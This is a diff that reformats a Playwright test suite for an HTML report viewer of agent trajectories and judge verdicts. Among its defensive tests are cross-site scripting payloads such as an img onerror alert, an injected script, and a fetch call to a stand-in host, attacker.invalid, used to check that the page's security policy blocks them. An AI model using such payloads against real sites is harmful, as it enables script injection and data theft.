@@ -67,7 +67,9 @@ class Reader:
         return self.page
 
     async def sees(self, condition: str) -> None:
-        """Waits until this JavaScript is true. Playwright's own waiting is forbidden by the page's policy."""
+        """Waits until this JavaScript is true. Playwright's own waiting is forbidden by the page's
+        policy.
+        """
         for _ in range(500):
             if await self.page.evaluate(condition):
                 return
@@ -75,7 +77,10 @@ class Reader:
         raise AssertionError(f"never true: {condition}")
 
     async def listed(self) -> list[str]:
-        return [await line.get_attribute("data-id") or "" for line in await self.page.locator("#list [role=option]").all()]
+        return [
+            await line.get_attribute("data-id") or ""
+            for line in await self.page.locator("#list [role=option]").all()
+        ]
 
     async def shown_id(self) -> str:
         return await self.page.locator("#detail .meta code").inner_text()
@@ -93,7 +98,9 @@ async def reader(chromium: Chromium) -> AsyncIterator[Reader]:
 
 @pytest.fixture
 def page(tmp_path: Path) -> Path:
-    items = [trajectory(id, metadata={} if id == "f" else {"truncated": id in "ace"}) for id in TRUTH]
+    items = [
+        trajectory(id, metadata={} if id == "f" else {"truncated": id in "ace"}) for id in TRUTH
+    ]
     write_report(tmp_path / "r.html", items, judges(), labels())
     return tmp_path / "r.html"
 
@@ -120,7 +127,9 @@ def page(tmp_path: Path) -> Path:
         ({"by-site": "wiki", "verdict": "failure"}, "cd"),
     ],
 )
-async def test_filters_show_the_right_rows(reader: Reader, page: Path, filters: dict[str, str], expected: str) -> None:
+async def test_filters_show_the_right_rows(
+    reader: Reader, page: Path, filters: dict[str, str], expected: str
+) -> None:
     browser = await reader.opens(page)
     await browser.locator("#filters > summary").click()
     for key, value in filters.items():
@@ -171,7 +180,10 @@ async def test_arrows_walk_the_steps(reader: Reader, tmp_path: Path) -> None:
     await browser.reload()
     assert await browser.locator("#stage strong").inner_text() == "Step 2 of 3"
     await browser.keyboard.press("j")
-    assert (browser.url.endswith("#t=b"), await browser.locator("#stage strong").inner_text()) == (True, "Step 1 of 3")
+    assert (browser.url.endswith("#t=b"), await browser.locator("#stage strong").inner_text()) == (
+        True,
+        "Step 1 of 3",
+    )
     await browser.locator("#card-2").click(position={"x": 300, "y": 12})
     assert await browser.locator("#stage strong").inner_text() == "Step 3 of 3"
 
@@ -179,13 +191,24 @@ async def test_arrows_walk_the_steps(reader: Reader, tmp_path: Path) -> None:
 @browsed
 async def test_step_tells_all_that_was_done(reader: Reader, tmp_path: Path) -> None:
     action = Action("type", text="types", target="box 'Name'", value="Ann")
-    state = Observation(screenshot=picture(tmp_path / "i", "s.png"), text="Your name?", url="http://shop/name")
+    state = Observation(
+        screenshot=picture(tmp_path / "i", "s.png"), text="Your name?", url="http://shop/name"
+    )
     steps = (StepVerdict(0, "away", -0.5, "the wrong box"),)
     own = [Judge("first", FIRST, {"a": verdict("a", True, steps=steps)})]
-    write_report(tmp_path / "r.html", [trajectory("a", [Step(state, action, "I write my name")])], own)
+    write_report(
+        tmp_path / "r.html", [trajectory("a", [Step(state, action, "I write my name")])], own
+    )
     browser = await reader.opens(tmp_path / "r.html")
     text = await browser.locator("#card-0").inner_text()
-    for words in ("types", "target box 'Name'", "value Ann", "I write my name", "http://shop/name", "away first, reward −0.5"):
+    for words in (
+        "types",
+        "target box 'Name'",
+        "value Ann",
+        "I write my name",
+        "http://shop/name",
+        "away first, reward −0.5",
+    ):
         assert words in text, words
     assert ("the wrong box" in text, "Your name?" in text) == (True, False)
     await browser.locator("#card-0 summary", has_text="Page text").click()
@@ -215,7 +238,9 @@ async def test_link_reproduces_the_view(reader: Reader, page: Path) -> None:
 @browsed
 async def test_back_leads_to_the_view_before(reader: Reader, page: Path) -> None:
     browser = await reader.opens(page, "")
-    await browser.locator('.confusion button[data-judge="0"][data-verdict="success"][data-truth="failure"]').click()
+    await browser.locator(
+        '.confusion button[data-judge="0"][data-verdict="success"][data-truth="failure"]'
+    ).click()
     await browser.locator("#clear").click()
     await browser.locator('[data-id="d"]').click()
     await browser.go_back()
@@ -235,7 +260,8 @@ async def test_column_heads_sort_the_list(reader: Reader, page: Path) -> None:
     for by in ("label", "0", "0", "0"):
         await browser.locator(f'#heads [data-by="{by}"]').click()
         orders.append("".join(await reader.listed()))
-    # Labels: success a, c, e; failure b, d; undecided f. The first judge: success a, b, f; failure c, d; unscored e.
+    # Labels: success a, c, e; failure b, d; undecided f. The first judge: success a, b, f; failure
+    # c, d; unscored e.
     assert orders == ["acebdf", "abfcde", "ecdabf", "abcdef"]
     assert await browser.locator('[data-id="e"] .cell').all_inner_texts() == ["✓", "–", "✓\n.90"]
 
@@ -244,8 +270,16 @@ async def test_column_heads_sort_the_list(reader: Reader, page: Path) -> None:
 async def test_five_judges_beside_the_picture(chromium: Chromium, tmp_path: Path) -> None:
     reason = "The last screenshot shows what was asked for. " * 20
     infos = [EvaluatorInfo(f"judge {i}", "1") for i in range(5)]
-    own = [Judge(info.name, info, {"a": Verdict(id="a", success=True, reason=reason, evaluator=info)}) for info in infos]
-    write_report(tmp_path / "r.html", [trajectory("a", states(tmp_path / "i", 3), answer="Done")], own, labels())
+    own = [
+        Judge(info.name, info, {"a": Verdict(id="a", success=True, reason=reason, evaluator=info)})
+        for info in infos
+    ]
+    write_report(
+        tmp_path / "r.html",
+        [trajectory("a", states(tmp_path / "i", 3), answer="Done")],
+        own,
+        labels(),
+    )
     context = await chromium.context(1440, 900)
     browser = await context.new_page()
     await browser.goto(f"{(tmp_path / 'r.html').as_uri()}#t=a")
@@ -265,16 +299,26 @@ async def test_five_judges_beside_the_picture(chromium: Chromium, tmp_path: Path
 async def test_two_of_three_judges_compared(reader: Reader, tmp_path: Path) -> None:
     info = EvaluatorInfo("third", "1")
     third = {id: Verdict(id=id, success=True, score=1.0, evaluator=info) for id in TRUTH}
-    write_report(tmp_path / "r.html", map(trajectory, TRUTH), [*judges(), Judge("third", info, third)], labels())
+    write_report(
+        tmp_path / "r.html",
+        map(trajectory, TRUTH),
+        [*judges(), Judge("third", info, third)],
+        labels(),
+    )
     browser = await reader.opens(tmp_path / "r.html", "")
-    # The second says failure of b, c and d, the third says success throughout; the third is right on c alone.
-    await browser.locator('.pairs button[data-judge="1"][data-among="2"]:not([data-against])').click()
+    # The second says failure of b, c and d, the third says success throughout; the third is right
+    # on c alone.
+    await browser.locator(
+        '.pairs button[data-judge="1"][data-among="2"]:not([data-against])'
+    ).click()
     assert await reader.listed() == list("bcd")
     assert await browser.locator(".judge h3").all_inner_texts() == ["second", "third", ""]
     await browser.locator("#judges > details > summary").click()
     assert await browser.locator(".judge h3").all_inner_texts() == ["second", "third", "first"]
     await browser.keyboard.press("s")
-    await browser.locator('.pairs button[data-judge="2"][data-among="1"][data-against="agrees"]').click()
+    await browser.locator(
+        '.pairs button[data-judge="2"][data-among="1"][data-against="agrees"]'
+    ).click()
     assert await reader.listed() == ["c"]
     await browser.locator("#clear").click()
     assert await browser.locator(".judge h3").all_inner_texts() == ["first", "second", "third"]
@@ -284,7 +328,9 @@ async def test_two_of_three_judges_compared(reader: Reader, tmp_path: Path) -> N
 @browsed
 async def test_reading_panes_scroll_by_keys(reader: Reader, tmp_path: Path) -> None:
     findings = Findings(criteria=(Criterion(text="one of many", met="met"),) * 60)
-    write_report(tmp_path / "r.html", [trajectory("a"), trajectory("b")], judges(findings=findings), labels())
+    write_report(
+        tmp_path / "r.html", [trajectory("a"), trajectory("b")], judges(findings=findings), labels()
+    )
     browser = await reader.opens(tmp_path / "r.html", "")
     for key, place in (("s", "summary"), ("n", "detail"), ("t", "detail")):
         if key != "s":
@@ -327,18 +373,32 @@ async def test_timeline_rewards_and_stand_ins(reader: Reader, tmp_path: Path) ->
 
 @browsed
 async def test_moved_page_finds_its_pictures(reader: Reader, tmp_path: Path) -> None:
-    names = ["a b.png", "50% #1?.png", "quo\"te's.png", "ünï—日本.png", "a:b&amp;.png", "..x.png", "{{script}}.png"]
+    names = [
+        "a b.png",
+        "50% #1?.png",
+        "quo\"te's.png",
+        "ünï—日本.png",
+        "a:b&amp;.png",
+        "..x.png",
+        "{{script}}.png",
+    ]
     (tmp_path / "first").mkdir()
-    steps = [Step(Observation(screenshot=picture(tmp_path / "first" / "i #1%", name)), Action("click")) for name in names]
+    steps = [
+        Step(Observation(screenshot=picture(tmp_path / "first" / "i #1%", name)), Action("click"))
+        for name in names
+    ]
     item = trajectory("odd id %20 #?&'\"<日>", steps)
     write_report(tmp_path / "first" / "my report #1%.html", [trajectory("b"), item])
     (tmp_path / "first").rename(tmp_path / "se cond?#%41")
     browser = await reader.opens(tmp_path / "se cond?#%41" / "my report #1%.html", "")
     await browser.keyboard.press("t")
     await browser.keyboard.press("j")
-    await browser.evaluate("document.querySelectorAll('.film img').forEach((image) => { image.loading = 'eager'; })")
+    await browser.evaluate(
+        "document.querySelectorAll('.film img').forEach((image) => { image.loading = 'eager'; })"
+    )
     await reader.sees(
-        f"[...document.querySelectorAll('.film img')].filter((i) => i.naturalWidth == 640).length == {len(names)}"
+        "[...document.querySelectorAll('.film img')].filter((i) => i.naturalWidth == 640).length "
+        f"== {len(names)}"
     )
     await browser.reload()
     assert await reader.shown_id() == item.id
@@ -360,7 +420,9 @@ async def test_help_opens_and_closes_by_key(reader: Reader, page: Path) -> None:
 @browsed
 async def test_confusion_count_opens_its_rows(reader: Reader, page: Path) -> None:
     browser = await reader.opens(page, "")
-    await browser.locator('.confusion button[data-judge="0"][data-verdict="success"][data-truth="failure"]').click()
+    await browser.locator(
+        '.confusion button[data-judge="0"][data-verdict="success"][data-truth="failure"]'
+    ).click()
     assert await reader.listed() == ["b"]
 
 
@@ -374,9 +436,15 @@ async def test_judges_side_by_side_with_findings(reader: Reader, tmp_path: Path)
     )
     opinions = (Opinion(judge="third", success=None, unscored="parse"),)
     steps = (StepVerdict(0, "away", 0.0, "wrong page"), StepVerdict(1, "reached", 1.0))
-    marked = LabelRecord(id="a", success=True, annotator="Ann", note="clear case", steps=(StepLabel(0, "towards"),))
+    marked = LabelRecord(
+        id="a", success=True, annotator="Ann", note="clear case", steps=(StepLabel(0, "towards"),)
+    )
     own = judges(findings=findings, opinions=opinions, steps=steps, seconds=1.26)
-    items = [trajectory("a", [Step(Observation(caption="A basket"), Action("click"))] * 2, answer="It is done")]
+    items = [
+        trajectory(
+            "a", [Step(Observation(caption="A basket"), Action("click"))] * 2, answer="It is done"
+        )
+    ]
     write_report(tmp_path / "r.html", items, own, [marked])
     browser = await reader.opens(tmp_path / "r.html")
     text = await browser.locator("#detail").inner_text()
@@ -404,7 +472,10 @@ async def test_judges_side_by_side_with_findings(reader: Reader, tmp_path: Path)
 
 
 def states(folder: Path, count: int) -> list[Step]:
-    return [Step(Observation(screenshot=picture(folder, f"s{i:02}.png")), Action("click")) for i in range(count)]
+    return [
+        Step(Observation(screenshot=picture(folder, f"s{i:02}.png")), Action("click"))
+        for i in range(count)
+    ]
 
 
 @browsed
@@ -416,7 +487,11 @@ async def test_tap_is_drawn_on_the_picture(reader: Reader, tmp_path: Path, embed
         Action("swipe", point=(0.5, 0.8), end_point=(0.5, 0.2)),
         Action("type", value="milk & honey", point=(0.1, 0.5)),
     ]
-    write_report(tmp_path / "r.html", [trajectory("a", [Step(state, action) for action in actions])], embed=embed)
+    write_report(
+        tmp_path / "r.html",
+        [trajectory("a", [Step(state, action) for action in actions])],
+        embed=embed,
+    )
     browser = await reader.opens(tmp_path / "r.html")
     await reader.sees("document.querySelector('#card-0 img').naturalWidth > 0")
     image = await browser.locator("#card-0 img").bounding_box()
@@ -425,8 +500,12 @@ async def test_tap_is_drawn_on_the_picture(reader: Reader, tmp_path: Path, embed
     assert ring is not None
     assert image["height"] / image["width"] == pytest.approx(1200 / 540, rel=0.01)
     assert ring["x"] + ring["width"] / 2 == pytest.approx(image["x"] + 0.41 * image["width"], abs=1)
-    assert ring["y"] + ring["height"] / 2 == pytest.approx(image["y"] + 0.22 * image["height"], abs=1)
-    assert (await browser.locator("#card-1 path.swipe").get_attribute("d") or "").startswith("M270 960L270 240")
+    assert ring["y"] + ring["height"] / 2 == pytest.approx(
+        image["y"] + 0.22 * image["height"], abs=1
+    )
+    assert (await browser.locator("#card-1 path.swipe").get_attribute("d") or "").startswith(
+        "M270 960L270 240"
+    )
     assert await browser.locator("#card-2 .tag text").text_content() == "milk & honey"
     await browser.locator("#stage .enlarge").click()
     await reader.sees("document.querySelector('#viewer img').naturalWidth > 0")
@@ -434,7 +513,9 @@ async def test_tap_is_drawn_on_the_picture(reader: Reader, tmp_path: Path, embed
     ring = await browser.locator("#viewer circle.tap").bounding_box()
     assert image is not None
     assert ring is not None
-    assert ring["y"] + ring["height"] / 2 == pytest.approx(image["y"] + 0.22 * image["height"], abs=1)
+    assert ring["y"] + ring["height"] / 2 == pytest.approx(
+        image["y"] + 0.22 * image["height"], abs=1
+    )
     assert image["height"] / image["width"] == pytest.approx(1200 / 540, rel=0.01)
     await browser.keyboard.press("ArrowRight")
     assert await browser.locator("#viewer path.swipe").count() == 1
@@ -444,7 +525,9 @@ async def test_tap_is_drawn_on_the_picture(reader: Reader, tmp_path: Path, embed
 
 @browsed
 async def test_images_are_fetched_in_sight_only(reader: Reader, tmp_path: Path) -> None:
-    write_report(tmp_path / "r.html", [trajectory("a", states(tmp_path / "i", 120)), trajectory("b")])
+    write_report(
+        tmp_path / "r.html", [trajectory("a", states(tmp_path / "i", 120)), trajectory("b")]
+    )
     browser = await reader.opens(tmp_path / "r.html", "")
     assert reader.images() == []
     await browser.keyboard.press("t")
@@ -463,7 +546,11 @@ async def test_embedded_page_fetches_nothing(reader: Reader, tmp_path: Path) -> 
         reader.requests.clear()
         await reader.opens(tmp_path / "r.html", f"?{embed}#t=a")
         await reader.sees("document.querySelector('#card-0 img').naturalWidth == 640")
-        assert [Path(url).name for url in reader.requests if url.startswith("file:") and "r.html" not in url] == expected
+        assert [
+            Path(url).name
+            for url in reader.requests
+            if url.startswith("file:") and "r.html" not in url
+        ] == expected
         assert not [url for url in reader.requests if not url.startswith(("file:", "data:"))]
     assert reader.complaints == []
 
@@ -473,12 +560,15 @@ async def test_missing_screenshot_shows_its_name(reader: Reader, tmp_path: Path)
     steps = states(tmp_path / "i", 2)
     (tmp_path / "i" / "s01.png").unlink()
     write_report(tmp_path / "r.html", [trajectory("a", steps)])
-    (tmp_path / "i" / "s00.png").unlink()  # one was gone before the page was made, one goes afterwards
+    # one was gone before the page was made, one goes afterwards
+    (tmp_path / "i" / "s00.png").unlink()
     browser = await reader.opens(tmp_path / "r.html")
     await reader.sees("document.querySelectorAll('.film .frame.absent').length == 2")
     assert "s00.png" in await browser.locator("#card-0").inner_text()
     assert "s01.png" in await browser.locator("#card-1").inner_text()
-    await reader.sees("document.querySelector('#stage .frame.absent code').textContent == 's00.png'")
+    await reader.sees(
+        "document.querySelector('#stage .frame.absent code').textContent == 's00.png'"
+    )
 
 
 HOSTILE = (
@@ -491,8 +581,12 @@ HOSTILE = (
 @browsed
 @pytest.mark.parametrize("text", HOSTILE)
 async def test_hostile_text_is_shown_never_run(reader: Reader, tmp_path: Path, text: str) -> None:
-    state = Observation(text=text, caption=text, url=text, screenshot=picture(tmp_path / "i", "x.png"))
-    step = Step(state, Action("type", text=text, target=text, value=text, point=(0.5, 0.5)), thought=text)
+    state = Observation(
+        text=text, caption=text, url=text, screenshot=picture(tmp_path / "i", "x.png")
+    )
+    step = Step(
+        state, Action("type", text=text, target=text, value=text, point=(0.5, 0.5)), thought=text
+    )
     criteria = (Criterion(text=text, met="met", step=0, reason=text),)
     apart = Step(state, Action("type", text="types", target=text, value=text), thought=text)
     item = Trajectory(
@@ -515,13 +609,22 @@ async def test_hostile_text_is_shown_never_run(reader: Reader, tmp_path: Path, t
         findings=Findings(criteria=criteria, not_executable=text, side_effects=(text,)),
         opinions=(Opinion(judge=text, success=True, reason=text),),
     )
-    label = LabelRecord(id=text, success=False, source=text, annotator=text, note=text, steps=(StepLabel(0, "away"),))
+    label = LabelRecord(
+        id=text,
+        success=False,
+        source=text,
+        annotator=text,
+        note=text,
+        steps=(StepLabel(0, "away"),),
+    )
     turns = (Turn("system", (text,)), Turn("user", (text, ImageFile(text))))
     with TranscriptLog(tmp_path / "calls") as log:
         call = Call(model=text, messages=turns, reply=text, reasoning=text, error=text)
         log.append(Transcript(text, "", (call,)))
     judge = Judge(text, hostile.evaluator, {text: hostile}, tmp_path / "calls")
-    write_report(tmp_path / "r.html", [item, BadLine(text, text, text, b"")], [judge], [label], title=text)
+    write_report(
+        tmp_path / "r.html", [item, BadLine(text, text, text, b"")], [judge], [label], title=text
+    )
     browser = await reader.opens(tmp_path / "r.html", "")
     await browser.keyboard.press("t")
     assert await browser.locator("#detail h2").inner_text() == text
@@ -529,7 +632,10 @@ async def test_hostile_text_is_shown_never_run(reader: Reader, tmp_path: Path, t
     assert await browser.title() == text
     await browser.locator(".asked").click()
     await reader.sees("document.querySelectorAll('#calls pre').length == 4")
-    assert [await part.inner_text() for part in await browser.locator("#calls pre").all()][::3] == [text, text]
+    assert [await part.inner_text() for part in await browser.locator("#calls pre").all()][::3] == [
+        text,
+        text,
+    ]
     await browser.keyboard.press("Escape")
     await browser.keyboard.press("ArrowRight")
     assert text in await browser.locator("#card-1 .parts").inner_text()
@@ -537,7 +643,10 @@ async def test_hostile_text_is_shown_never_run(reader: Reader, tmp_path: Path, t
     await browser.keyboard.press("Escape")
     await browser.keyboard.press("j")
     for key in ("t", "step", "search", "sort", "judge", "by-site", "constructor"):
-        await browser.evaluate("([key, text]) => { location.hash = new URLSearchParams({ t: '', [key]: text }); }", [key, text])
+        await browser.evaluate(
+            "([key, text]) => { location.hash = new URLSearchParams({ t: '', [key]: text }); }",
+            [key, text],
+        )
         await reader.sees("!document.getElementById('browse').hidden")
     await browser.evaluate("dispatchEvent(new Event('beforeprint'))")
     assert await browser.evaluate("document.querySelector('#printed h2').textContent") == text
@@ -557,9 +666,11 @@ async def test_policy_stops_injected_scripts(reader: Reader, page: Path) -> None
           const script = document.createElement("script");
           script.textContent = "window.ran = true";
           document.body.append(script);
-        }"""
+        }"""  # noqa: E501
     )
-    blocked = await browser.evaluate("fetch('http://attacker.invalid/').then(() => 'sent', () => 'blocked')")
+    blocked = await browser.evaluate(
+        "fetch('http://attacker.invalid/').then(() => 'sent', () => 'blocked')"
+    )
     assert blocked == "blocked"
     assert await browser.evaluate("window.ran") is None
     assert sum("Content Security Policy" in complaint for complaint in reader.complaints) >= 4
@@ -579,17 +690,27 @@ async def test_long_list_draws_only_whats_in_sight(reader: Reader, tmp_path: Pat
 
 @browsed
 @pytest.mark.parametrize("width", [1280, 420])
-async def test_nothing_is_wider_than_the_screen(chromium: Chromium, tmp_path: Path, width: int) -> None:
+async def test_nothing_is_wider_than_the_screen(
+    chromium: Chromium, tmp_path: Path, width: int
+) -> None:
     long = "a_very_long_word_without_any_place_to_break_" * 8
     item = trajectory("a", states(tmp_path / "i", 9), answer=long, task=Task(goal=long, site=long))
-    write_report(tmp_path / "r.html", [item], judges(), [LabelRecord(id="a", success=True, annotator=long, note=long)])
+    write_report(
+        tmp_path / "r.html",
+        [item],
+        judges(),
+        [LabelRecord(id="a", success=True, annotator=long, note=long)],
+    )
     context = await chromium.context(width, 800)
     browser = await context.new_page()
     await browser.goto((tmp_path / "r.html").as_uri())
     for key in "stj":
         await browser.keyboard.press(key)
         wide = "document.documentElement.scrollWidth <= innerWidth && ['summary', 'detail'].every("
-        wide += "id => document.getElementById(id).scrollWidth <= document.getElementById(id).clientWidth)"
+        wide += (
+            "id => document.getElementById(id).scrollWidth <= "
+            "document.getElementById(id).clientWidth)"
+        )
         assert await browser.evaluate(wide), key
     await closed(context)
 
@@ -599,9 +720,13 @@ async def test_nothing_is_wider_than_the_screen(chromium: Chromium, tmp_path: Pa
 
 @pytest.fixture
 def tried(tmp_path: Path) -> Path:
-    """Three attempts at one task, whose second lesson would run a script, and one at another, all in the order of playing."""
+    """Three attempts at one task, whose second lesson would run a script, and one at another, all
+    in the order of playing.
+    """
     places = [("a", 0), ("b", 0), ("a", 1), ("a", 2)]
-    items = [trajectory(name, metadata={"attempt": n, "seed": 0}, agent="robot") for name, n in places]
+    items = [
+        trajectory(name, metadata={"attempt": n, "seed": 0}, agent="robot") for name, n in places
+    ]
     items = [replace(item, id=f"{item.id}-{n}") for item, (_, n) in zip(items, places, strict=True)]
     said = {"a-0": False, "a-1": None, "a-2": True, "b-0": True}
     judge = Judge("first", FIRST, {id: verdict(id, success) for id, success in said.items()})
@@ -621,8 +746,17 @@ async def test_attempts_stand_side_by_side(reader: Reader, tried: Path) -> None:
     browser = await reader.opens(tried, "#t=a-1")
     cards = browser.locator(".attempt")
     first, second, third = await cards.all_inner_texts()
-    assert "First attempt" in first and "Failure" in first and "0.20" in first and "Look at the second page." in first
-    assert "Retry 1" in second and "Unscored" in second and "<img src=x onerror=alert(1)><script>" in second
+    assert (
+        "First attempt" in first
+        and "Failure" in first
+        and "0.20" in first
+        and "Look at the second page." in first
+    )
+    assert (
+        "Retry 1" in second
+        and "Unscored" in second
+        and "<img src=x onerror=alert(1)><script>" in second
+    )
     assert "Retry 2" in third and "★" in third and "The judge accepted this attempt." in third
     assert await cards.nth(1).get_attribute("aria-current") == "true"
     await cards.nth(2).locator("button").click()
@@ -630,7 +764,9 @@ async def test_attempts_stand_side_by_side(reader: Reader, tried: Path) -> None:
     await browser.locator("#filter-by-attempt").select_option("0")
     assert await reader.listed() == ["a-0", "b-0"]
     await cards.nth(1).locator("button").click()
-    assert await reader.shown_id() == "a-1" and len(await reader.listed()) == 4, "a link to what a filter hides clears it"
+    assert await reader.shown_id() == "a-1" and len(await reader.listed()) == 4, (
+        "a link to what a filter hides clears it"
+    )
     assert reader.complaints == []
 
 
@@ -638,7 +774,10 @@ async def test_attempts_stand_side_by_side(reader: Reader, tried: Path) -> None:
 async def test_summary_leads_to_each_attempt(reader: Reader, tried: Path) -> None:
     browser = await reader.opens(tried, "#summary")
     rows = browser.locator("#summary tr", has=browser.locator(".attempt-link"))
-    assert [(await row.locator("a").count(), (await row.inner_text()).split()[-1]) for row in await rows.all()] == [
+    assert [
+        (await row.locator("a").count(), (await row.inner_text()).split()[-1])
+        for row in await rows.all()
+    ] == [
         (3, "accepted"),
         (1, "accepted"),
     ]
